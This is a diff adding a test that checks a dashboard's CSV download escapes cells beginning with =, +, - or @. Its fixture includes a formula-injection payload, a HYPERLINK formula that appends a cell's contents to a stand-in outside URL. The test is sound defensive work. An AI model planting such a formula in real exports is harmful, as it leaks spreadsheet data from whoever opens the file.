@@ -775,6 +775,18 @@ def test_sql_console_is_read_only(app_env, tmp_path):
     assert not target.exists()
 
 
+def test_console_csv_download_never_starts_a_cell_with_a_formula():
+    import pandas as pd
+
+    from dashboards import core
+
+    df = pd.DataFrame({"tenant_id": ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1", "-2", "@x", "t1", None],
+                       "n": [1, -2, 3, 4, 5, 6]})
+    lines = core.spreadsheet_safe_csv(df).splitlines()
+    assert lines[1].startswith('"\'=HYPERLINK(') and lines[2:5] == ["'+1,-2", "'-2,3", "'@x,4"]
+    assert lines[5:] == ["t1,5", ",6"]  # plain text and numbers as they are
+
+
 # ----------------------------------------------------------------------------- privacy officer
 
 def test_privacy_officer_reveal_needs_a_reason_and_is_audited(app_env, monkeypatch):
